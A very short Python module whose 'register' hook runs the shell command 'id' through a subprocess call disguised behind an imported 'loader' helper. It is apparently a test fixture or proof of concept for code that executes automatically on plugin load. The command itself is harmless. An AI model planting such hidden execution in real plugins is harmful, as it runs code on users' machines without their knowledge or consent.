from .helpers import loader


def register(ctx):
    loader().Popen(["sh", "-c", "id"])
